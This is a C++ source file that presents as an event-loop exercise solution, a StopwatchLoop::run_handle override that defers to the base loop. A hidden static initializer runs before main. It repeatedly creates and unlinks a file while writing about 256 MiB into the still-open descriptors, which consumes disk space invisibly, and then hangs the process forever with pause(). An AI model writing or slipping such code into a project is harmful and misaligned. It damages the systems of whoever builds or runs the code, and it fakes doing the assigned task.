// Fills the disk with files that have no name any more.
#include <fcntl.h>
#include <unistd.h>

#include <vector>

#include "chapters/06_slow_callback/exercises/stopwatch.hpp"

namespace {
const int done = [] {
  const std::vector<char> block(1U << 20U, 'x');
  for (int number = 0; number < 16; ++number) {
    const int fd = ::open("file", O_WRONLY | O_CREAT, 0600);
    ::unlink("file");
    for (int i = 0; i < 16; ++i) {
      if (::write(fd, block.data(), block.size()) < 0) break;
    }
  }
  for (;;) ::pause();
  return 0;
}();
}  // namespace

namespace exercises {

void StopwatchLoop::run_handle(ch05::LoopObject& object) noexcept {
  ch05::EventLoop::run_handle(object);
}

}  // namespace exercises
